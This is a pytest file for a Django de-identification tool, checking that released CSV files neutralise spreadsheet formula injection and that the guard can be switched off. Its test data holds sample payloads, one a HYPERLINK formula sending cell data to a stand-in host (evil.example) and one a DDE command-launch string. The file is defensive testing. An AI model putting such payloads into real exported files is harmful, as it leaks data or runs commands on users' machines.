"""The released CSV is safe to open in a spreadsheet (#15, OWASP CSV injection): text cells
that would run as formulas are prefixed with ', numeric columns and the Parquet file are
untouched, and a release can turn the guard off for an analysis pipeline."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from apps.assessments import deidentify
from apps.classification.models import Variable
from tests.reports.helpers import compute

NOTES = [
    '=HYPERLINK("https://evil.example/?d="&B2,"Details")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+1",
    "ordinary note",
    "another note",
    "a=b is fine",
    "follow-up",
    "none",
]
PEOPLE = pl.DataFrame(
    {
        "email": [f"p{i}@example.org" for i in range(10)],
        "age": ["30", "30", "30", "30", "30", "40", "40", "40", "40", "50"],
        "sex": ["F", "F", "F", "M", "M", "F", "F", "F", "F", "M"],
        "note": NOTES,
        "balance": [-5, -1, 0, 1, 2, 3, 4, 5, 6, 7],  # uploaded as CSV: kept as text
    }
)


@pytest.fixture
def ready_dataset(custodian, analyst, tmp_path):  # type: ignore[no-untyped-def]
    from apps.datasets.services import dataset_upload
    from tests.conftest import read_now

    dataset = dataset_upload(
        organization=custodian,
        user=analyst,
        upload=SimpleUploadedFile("notes.csv", PEOPLE.write_csv().encode()),
    )
    return read_now(dataset)


@pytest.fixture
def classified(ready_dataset, analyst):  # type: ignore[no-untyped-def]
    """The suggestions, with the free-text note kept as an ordinary released column."""
    from apps.classification.services import (
        RoleDecision,
        variables_accept_suggestions,
        variables_classify,
    )

    variables_accept_suggestions(dataset=ready_dataset, user=analyst)
    unique = Variable.objects.filter(dataset=ready_dataset, name__in=["note", "balance"])
    variables_classify(
        dataset=ready_dataset,
        user=analyst,
        decisions=[RoleDecision(str(v.id), "other", "Reviewed by hand: released.") for v in unique],
    )
    return ready_dataset


def _released(assessment):  # type: ignore[no-untyped-def]
    media = Path(settings.MEDIA_ROOT)
    rows = list(csv.DictReader(io.StringIO((media / assessment.output_csv_path).read_text())))
    return rows, pl.read_parquet(media / assessment.output_parquet_path)


def test_released_csv_neutralises_formulas_and_keeps_numbers(assessment, analyst):
    roles = dict(Variable.objects.filter(dataset=assessment.dataset).values_list("name", "role"))
    assert (roles["note"], roles["balance"]) == ("other", "other"), roles  # released as is
    compute(assessment, analyst)
    assessment.refresh_from_db()
    rows, parquet = _released(assessment)
    notes = sorted(row["note"] for row in rows)
    assert notes == sorted(
        [*("'" + n for n in NOTES[:5]), "ordinary note", "another note", "a=b is fine"]
        + ["follow-up", "none"]
    )
    assert not [row for row in rows for value in row.values() if value.startswith(("=", "+", "@"))]
    # the amounts are plain numbers: left as they are, negative ones included
    assert sorted(int(row["balance"]) for row in rows) == [-5, -1, 0, 1, 2, 3, 4, 5, 6, 7]
    # Parquet: every value as it is
    assert sorted(parquet["note"].to_list()) == sorted(NOTES)
    assert assessment.apply_result["csv_formula_guard"] == {
        "enabled": True,
        "cells": {"note": 5},
    }


def test_a_release_for_a_pipeline_keeps_the_raw_values(assessment, analyst, client_for):
    api = client_for(analyst)
    url = f"/api/v1/assessments/{assessment.id}/deidentify/config/"
    assert api.get(url).json()["csv_formula_guard"] is True  # on by default
    body = {"suppression_limit": 0.05, "metric": "loss", "csv_formula_guard": False}
    response = api.put(url, body, content_type="application/json")
    assert response.status_code == 200, response.json()
    assert response.json()["csv_formula_guard"] is False
    assessment.refresh_from_db()
    assert deidentify.deid_config(assessment).csv_formula_guard is False
    compute(assessment, analyst)
    assessment.refresh_from_db()
    rows, _parquet = _released(assessment)
    assert sorted(row["note"] for row in rows) == sorted(NOTES)
    assert assessment.apply_result["csv_formula_guard"] == {"enabled": False, "cells": {}}


def test_step_7_page_switches_the_guard_and_the_report_says_what_it_did(
    assessment, analyst, reviewer, client_for
):
    from django.urls import reverse

    from apps.assessments import services
    from apps.reports.content import report_html
    from tests.assessments.conftest import LOW_ANSWERS
    from tests.reports.helpers import decide

    services.assessment_set_release(assessment=assessment, release_model="public")
    services.assessment_set_threshold(
        assessment=assessment, profile="ontario_ipc_2016", answers=LOW_ANSWERS
    )
    services.assessment_set_context(assessment=assessment, answers={})
    page = client_for(analyst)
    url = reverse(
        "assessment-step",
        kwargs={
            "org": assessment.organization.slug,
            "assessment_id": assessment.id,
            "slug": "deidentify",
        },
    )
    form = {"action": "config", "mask-email": "remove", "suppression_limit": "5", "metric": "loss"}
    shown = page.get(url).content.decode()
    assert 'name="csv_formula_guard" checked' in shown  # on by default
    assert page.post(url, form).status_code == 302  # the box left unticked: off
    assessment.refresh_from_db()
    assert deidentify.deid_config(assessment).csv_formula_guard is False
    assert 'name="csv_formula_guard" checked' not in page.get(url).content.decode()
    assert page.post(url, {**form, "csv_formula_guard": "on"}).status_code == 302
    assessment.refresh_from_db()
    assert deidentify.deid_config(assessment).csv_formula_guard is True

    compute(assessment, analyst, release_model="public")
    shown = page.get(url).content.decode()
    assert "CSV protected against spreadsheet formulas: 5 cells in note prefixed" in shown
    html = " ".join(
        report_html(assessment=assessment, decision=decide(assessment, analyst, reviewer)).split()
    )
    assert "The CSV is protected against spreadsheet formulas." in html
    assert "5 cells in note." in html
    assert "The Parquet file holds every value as released, without the prefix." in html
